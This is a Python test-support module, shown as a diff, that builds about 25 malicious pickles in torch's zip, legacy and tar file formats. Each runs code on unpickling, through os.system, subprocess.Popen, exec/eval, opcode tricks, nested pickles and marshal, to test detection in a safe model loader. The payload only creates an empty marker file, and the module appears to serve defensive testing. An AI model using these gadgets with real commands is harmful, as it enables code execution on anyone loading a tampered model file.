@@ -1,0 +1,280 @@
+"""
+Pickles that run code when they are read, each in a way of its own.
+
+All that their code does is to make an empty marker file.
+"""
+
+import copyreg
+import io
+import pickle
+import sys
+import tarfile
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import torch
+
+PROTO4 = b'\x80\x04'
+EXTENSION = 240
+
+
+class Call:
+    """
+    Pickles as the call of a function.
+    """
+
+    def __init__(self, function, *args):
+        self.function, self.args = function, args
+
+    def __reduce__(self):
+        return self.function, self.args
+
+
+class Named:
+    """
+    A global that is written into a pickle by its name alone.
+    """
+
+    def __init__(self, module, name):
+        self.module, self.name = module, name
+
+    def __bytes__(self):
+        return f'c{self.module}\n{self.name}\n'.encode()
+
+
+def text(words) -> bytes:
+    """
+    Return the pickle code of a string.
+    """
+    data = str(words).encode()
+    return b'X' + len(data).to_bytes(4, 'little') + data
+
+
+def reduced(module, name, *args) -> bytes:
+    """
+    Return the pickle of a call; arguments that are bytes are pickle code themselves.
+    """
+    inside = b''.join(arg if isinstance(arg, bytes) else text(arg) for arg in args)
+    return bytes(Named(module, name)) + b'(' + inside + b'tR'
+
+
+def program(marker: Path) -> str:
+    return f'open({str(marker)!r}, "w").close()'
+
+
+def module_on_path(marker: Path) -> str:
+    """
+    Write a module that makes the marker when it is imported; return its name.
+    """
+    name = f'imported_{abs(hash(str(marker)))}'
+    (marker.parent / f'{name}.py').write_text(program(marker) + '\nx = 0\n')
+    if str(marker.parent) not in sys.path:
+        sys.path.append(str(marker.parent))
+    return name
+
+
+def script(marker: Path) -> Path:
+    path = marker.parent / f'script_{marker.name}.py'
+    path.write_text(program(marker))
+    return path
+
+
+def touch(marker: Path) -> str:
+    return f'touch {marker}'
+
+
+def getattr_chain(marker: Path) -> bytes:
+    os = reduced('builtins', '__import__', 'os')
+    system = reduced('builtins', 'getattr', os, 'system')
+    return system + b'(' + text(touch(marker)) + b'tR'
+
+
+def partial(marker: Path) -> bytes:
+    system = bytes(Named('posix', 'system'))
+    return reduced('functools', 'partial', system, touch(marker)) + b')R'
+
+
+def methodcaller(marker: Path) -> bytes:
+    path = reduced('pathlib', 'PosixPath', str(marker))
+    return reduced('operator', 'methodcaller', 'touch') + b'(' + path + b'tR'
+
+
+def attrgetter(marker: Path) -> bytes:
+    getter = reduced('operator', 'attrgetter', 'system')
+    os = reduced('importlib', 'import_module', 'os')
+    return getter + b'(' + os + b'tR(' + text(touch(marker)) + b'tR'
+
+
+def dotted(marker: Path) -> bytes:
+    name = b'\x8c\x05torch' + b'\x8c\x09os.system' + b'\x93'
+    return PROTO4 + name + b'(' + text(touch(marker)) + b'tR'
+
+
+def extension(marker: Path) -> bytes:
+    if EXTENSION not in copyreg._inverted_registry:
+        copyreg.add_extension('posix', 'system', EXTENSION)
+    code = bytes([EXTENSION])
+    return b'\x82' + code + b'(' + text(touch(marker)) + b'tR'
+
+
+def inst(marker: Path) -> bytes:
+    return b'(' + text(touch(marker)) + b'iposix\nsystem\n'
+
+
+def obj(marker: Path) -> bytes:
+    # OBJ instantiates: a class whose making runs something
+    popen = b'(' + bytes(Named('subprocess', 'Popen'))
+    return popen + b'](' + text('touch') + text(marker) + b'eo'
+
+
+def setstate(marker: Path) -> bytes:
+    """
+    An object of an allowed type, whose own `__setstate__` becomes a function.
+    """
+    blank = bytes(Named('argparse', 'Namespace')) + b')\x81'
+    system = b'}' + text('__setstate__') + bytes(Named('posix', 'system')) + b'sb'
+    return blank + system + text(touch(marker)) + b'b'
+
+
+def nested_pickle(marker: Path) -> bytes:
+    inner = pickle.dumps(Call(exec, program(marker)))
+    coded = b'B' + len(inner).to_bytes(4, 'little') + inner
+    return PROTO4 + reduced('_pickle', 'loads', coded)
+
+
+def nested_torch(marker: Path) -> bytes:
+    inner = in_zip(pickle.dumps(Call(exec, program(marker))))
+    coded = b'B' + len(inner).to_bytes(4, 'little') + inner
+    return PROTO4 + reduced('torch.storage', '_load_from_bytes', coded)
+
+
+def function_of_code(marker: Path) -> bytes:
+    import marshal
+
+    inner = marshal.dumps(compile(program(marker), '<model>', 'exec'))
+    code = b'B' + len(inner).to_bytes(4, 'little') + inner
+    builtins = reduced('importlib', 'import_module', 'builtins')
+    names = b'}' + text('__builtins__') + builtins + b's'
+    loaded = reduced('marshal', 'loads', code)
+    return PROTO4 + reduced('types', 'FunctionType', loaded, names) + b')R'
+
+
+def factory(marker: Path) -> bytes:
+    """
+    A defaultdict whose factory is a function, called by the first missing key.
+    """
+    call = reduced(
+        'functools', 'partial', bytes(Named('posix', 'system')), touch(marker)
+    )
+    made = reduced('collections', 'defaultdict', call)
+    getter = reduced('operator', 'itemgetter', 'missing')
+    return getter + b'(' + made + b'tR'
+
+
+# name: (the pickle that makes the marker, the first offending global)
+GADGETS: dict[str, tuple[Callable[[Path], bytes], str]] = {
+    'system': (lambda m: reduced('posix', 'system', touch(m)), 'posix.system'),
+    'popen': (
+        lambda m: reduced(
+            'subprocess', 'Popen', b'](' + text('touch') + text(m) + b'e'
+        ),
+        'subprocess.Popen',
+    ),
+    'exec': (lambda m: reduced('builtins', 'exec', program(m)), 'builtins.exec'),
+    'python 2': (
+        lambda m: b'\x80\x02' + reduced('__builtin__', 'eval', program(m)),
+        '__builtin__.eval',
+    ),
+    'eval': (lambda m: reduced('builtins', 'eval', program(m)), 'builtins.eval'),
+    'open': (lambda m: reduced('_io', 'open', str(m), 'w'), '_io.open'),
+    'getattr': (getattr_chain, 'builtins.getattr'),
+    'runpy': (lambda m: reduced('runpy', 'run_path', script(m)), 'runpy.run_path'),
+    'importlib': (
+        lambda m: reduced('importlib', 'import_module', module_on_path(m)),
+        'importlib.import_module',
+    ),
+    'mere import': (lambda m: bytes(Named(module_on_path(m), 'x')), 'imported_'),
+    'methodcaller': (methodcaller, 'operator.methodcaller'),
+    'attrgetter': (attrgetter, 'operator.attrgetter'),
+    'partial': (partial, 'functools.partial'),
+    'dotted': (dotted, 'torch.os.system'),
+    'extension': (extension, 'the extension of code 240 (copyreg)'),
+    'INST': (inst, 'posix.system'),
+    'OBJ': (obj, 'subprocess.Popen'),
+    'BUILD': (setstate, 'posix.system'),
+    'nested pickle': (nested_pickle, '_pickle.loads'),
+    'nested torch': (nested_torch, 'torch.storage._load_from_bytes'),
+    'marshal': (function_of_code, 'types.FunctionType'),
+    'default factory': (factory, 'operator.itemgetter'),
+    'numpy': (
+        lambda m: reduced(
+            'numpy.testing._private.utils', 'runstring', program(m), b'}'
+        ),
+        'numpy.testing._private.utils.runstring',
+    ),
+    'torch': (
+        lambda m: reduced('torch.utils.collect_env', 'run', touch(m)),
+        'torch.utils.collect_env.run',
+    ),
+    'timeit': (
+        lambda m: reduced('timeit', 'timeit', 'pass', program(m)),
+        'timeit.timeit',
+    ),
+}
+
+
+def gadget(name: str, marker: Path) -> bytes:
+    """
+    Return a whole pickle that makes ``marker`` when it is read.
+    """
+    code = GADGETS[name][0](marker)
+    # with its protocol named, ParlAI takes an `.opt` for a pickle
+    return (b'' if code[:1] == b'\x80' else b'\x80\x02') + code + b'.'
+
+
+def in_zip(pickled: bytes) -> bytes:
+    """
+    Return a file as `torch.save` writes it since 1.6.
+    """
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, 'w') as file:
+        file.writestr('archive/data.pkl', pickled)
+        file.writestr('archive/version', b'3\n')
+    return made.getvalue()
+
+
+def in_legacy(pickled: bytes) -> bytes:
+    """
+    Return a file as `torch.save` wrote it before 1.6.
+    """
+    system = dict(protocol_version=1001, little_endian=True, type_sizes={})
+    head = (torch.serialization.MAGIC_NUMBER, 1001, system)
+    return b''.join(pickle.dumps(h, 2) for h in head) + pickled + pickle.dumps([], 2)
+
+
+def in_tar(pickled: bytes, storages: bytes = b'', tensors: bytes = b'') -> bytes:
+    """
+    Return a file as the first versions of torch wrote it.
+    """
+    nothing = pickle.dumps(0, 2)
+    members = {
+        'storages': storages or nothing + pickle.dumps([], 2),
+        'tensors': tensors or nothing,
+        'pickle': pickled,
+    }
+    made = io.BytesIO()
+    with tarfile.open(fileobj=made, mode='w:') as file:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            file.addfile(info, io.BytesIO(data))
+    return made.getvalue()
+
+
+FORMATS: dict[str, Callable[[bytes], bytes]] = {
+    'zip': in_zip,
+    'legacy': in_legacy,
+    'tar': in_tar,
+    'raw': lambda pickled: pickled,
+}
